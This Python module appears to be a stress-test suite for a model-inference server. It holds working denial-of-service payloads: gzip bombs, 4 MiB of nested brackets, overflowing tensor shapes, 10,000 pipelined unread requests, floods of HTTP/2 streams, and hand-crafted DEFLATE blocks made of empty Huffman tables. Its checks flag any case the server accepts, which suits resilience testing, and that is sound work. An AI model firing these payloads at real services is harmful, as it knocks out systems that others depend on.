"""Requests that cost a shard much time for few bytes, or for many."""

import json
import threading

from peer import GRPC, GZIP, H2, JSON, Raw, ask, binary_infer, data, flat_bits, grpc_message, packed, post
from registry import attack

import numpy

MIB = 1 << 20
INFER = '/v2/models/identity/infer'


def again(target, request, wait=60):
    """The same request, once at least, until time is over; (how many were answered, the last status)."""
    done, status = 0, 0
    while done == 0 or not target.over():
        status, _ = ask(target, request, wait=wait)
        done += 1
    return f'{done} of {len(request) >> 10} KiB, the last {status}'


@attack(seconds=15, quick=2.5)
def classification_of_everything(target):
    """`classification` with k as large as the tensor (60 MiB of FP32)."""
    count = target.size(15, 2) * MIB
    octets = numpy.random.default_rng(1).random(count, dtype=numpy.float32).tobytes()
    field, body = binary_infer('FP32', count, octets, classification=count)
    return again(target, post(INFER, body, field))


@attack(seconds=15, quick=2.5)
def json_lines_coded(target):
    """62 MiB of `{}` lines in 832 KB of gzip, for an RPC in its JSON form."""
    lines = target.size(62, 8) * MIB // 3
    noise = flat_bits(lines, 25)
    body = packed(b''.join(b'{} \n' if bit else b'{}\n' for bit in noise))
    return again(target, post('/inference.GRPCInferenceService/ModelStreamInfer', body, JSON, GZIP))


@attack(seconds=15, quick=2.5)
def json_of_40_mib(target):
    """REST JSON of 40 MiB: one tensor of small numbers."""
    count = target.size(20, 4) * MIB
    numbers = b'1,' * (count - 1) + b'1'
    return again(target, post(INFER, b'{"inputs":[{"name":"x","datatype":"INT8","shape":[%d],"data":[%s]}]}' % (count, numbers), JSON))


@attack(seconds=15, quick=2.5)
def json_nested(target):
    """JSON of 4 MiB that is all brackets, in every dialect that reads JSON."""
    depth = target.size(4, 1) * MIB
    bodies = [(INFER, b'{"inputs":[{"name":"x","datatype":"INT8","shape":[1],"data":' + b'[' * depth),
              ('/v1/chat/completions', b'{"model":"chat","messages":' + b'[' * depth),
              ('/grps/v1/infer/predict?model=identity', b'{"ndarray":' + b'[' * depth),
              ('/inference.GRPCInferenceService/ModelInfer', b'{"inputs":' + b'[' * depth),
              ('/v2/models/chat/generate', b'{"text_input":' + b'[' * depth)]
    done = 0
    while not target.over():
        for path, body in bodies:
            status, _ = ask(target, post(path, body, JSON))
            done += 1
            if status == 200:
                target.broke(f'{path} takes {depth} brackets')
    return f'{done} bodies'


@attack(seconds=15, quick=2.5)
def bytes_elements(target):
    """8 MiB of empty BYTES elements, whose JSON answer is 20 times as long."""
    count = target.size(2, 1) * MIB
    field, body = binary_infer('BYTES', count, bytes(4 * count))
    return again(target, post(INFER, body, field))


@attack(seconds=10, quick=2)
def shapes_that_lie(target):
    """Shapes whose product overflows, is negative, or has a thousand dimensions."""
    shapes = [[2**32, 2**32], [2**63 - 1], [-1], [-(2**63)], [2**31, 2**31, 4], [1] * 1000, [0, 2**62], [2**64], []]
    done = 0
    while not target.over():
        for shape in shapes:
            for datatype in ('FP32', 'BYTES', 'BOOL', 'FP64'):
                body = json.dumps({'inputs': [{'name': 'x', 'datatype': datatype, 'shape': shape, 'data': [1]}]}).encode()
                status, _ = ask(target, post(INFER, body, JSON))
                done += 1
                if status == 200 and shape not in ([], [1] * 1000):
                    target.broke(f'shape {str(shape)[:40]} of {datatype} is served')
    return f'{done} requests'


@attack(seconds=15, quick=2.5)
def pipelined_infers(target):
    """10,000 pipelined requests on one connection whose answers are not read."""
    body = json.dumps({'inputs': [{'name': 'x', 'datatype': 'INT32', 'shape': [500], 'data': list(range(500))}]}).encode()
    request, sent = post(INFER, body, JSON) * 50, 0
    while not target.over():
        with Raw(target, receive_buffer=4096, wait=5) as raw:
            for _ in range(200):
                if target.over() or not raw.alive:
                    break
                raw.sock.settimeout(1)
                raw.send(request)
                sent += 50
    return f'{sent} requests'


@attack(seconds=15, quick=2.5)
def model_pages(target):
    """The reference pages of models, made for each request, on 90 streams of an HTTP/2 connection at once."""
    paths = [f'/v2/models/{model}/docs{form}' for model in ('simple', 'identity', 'chat') for form in ('', '/dataplane.json')]
    asked = 0
    while not target.over():
        with H2(target, wait=10) as h2:
            h2.send(b''.join(H2.head(i, paths[i // 2 % len(paths)]) for i in range(1, 180, 2)))
            asked += 90
            while len(h2.closed_streams) < 90 and not target.over() and h2.pump(wait=0.1):
                pass
    return f'{asked} pages'


class Bits:
    """The bit stream of RFC 1951: numbers from their lowest bit on, codes from their highest."""

    def __init__(self):
        self.value = self.count = 0

    def number(self, number, bits):
        self.value |= number << self.count
        self.count += bits

    def code(self, code, bits):
        self.number(int(f'{code:0{bits}b}'[::-1], 2), bits)


def empty_blocks():
    """Eight blocks of RFC 1951 §3.2.7 with tables as large as 225 bits can say, in which nothing but the end is coded."""
    falling = list(range(2, 16)) + [15]  # lengths of a complete code, with the 1 of the end of the block
    lengths = [(n, 0, 0) for n in falling] + [(18, 138 - 11, 7), (18, 103 - 11, 7), (1, 0, 0)] + [(n, 0, 0) for n in [1, *falling]]
    symbols = sorted({symbol for symbol, _, _ in lengths})  # of the code for lengths: 16 of 4 bits each
    bits = Bits()
    for _ in range(8):
        bits.number(0b100, 3)
        for number, size in ((0, 5), (15, 5), (15, 4)):
            bits.number(number, size)
        for symbol in (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15):
            bits.number(4 if symbol in symbols else 0, 3)
        for symbol, extra, size in lengths:
            bits.code(symbols.index(symbol), 4)
            bits.number(extra, size)
        bits.code(0, 1)
    assert bits.count % 8 == 0
    return bits.value.to_bytes(bits.count // 8, 'little')


@attack(seconds=20, quick=4)
def tables_of_nothing(target):
    """Coded bodies that come to nothing: Huffman tables without end, for HTTP's and gRPC's gzip."""
    head = bytes.fromhex('1f8b08000000000000ff')
    octets = empty_blocks() * (target.size(48, 8) * MIB // 225)
    request = post(INFER, head + octets, JSON, GZIP)

    def over_h2():
        while not target.over():
            with H2(target, wait=5) as h2:
                h2.pump(0.2)
                fields = (*GRPC, ('grpc-encoding', 'gzip'))
                message = grpc_message(head + octets[:MIB], 1)
                for stream in range(1, 40, 2):
                    h2.send(h2.head(stream, '/inference.GRPCInferenceService/ModelInfer', 'POST', end=False, extra=fields))
                    for at in range(0, len(message), 16000):
                        h2.send(data(stream, message[at:at + 16000], end=at + 16000 >= len(message)))
                    if target.over() or not h2.pump():
                        break
                while not target.over() and h2.pump(0.1) and len(h2.closed_streams) < 20:
                    pass

    other = threading.Thread(target=over_h2)
    other.start()
    did = again(target, request, wait=30)
    other.join()
    return did
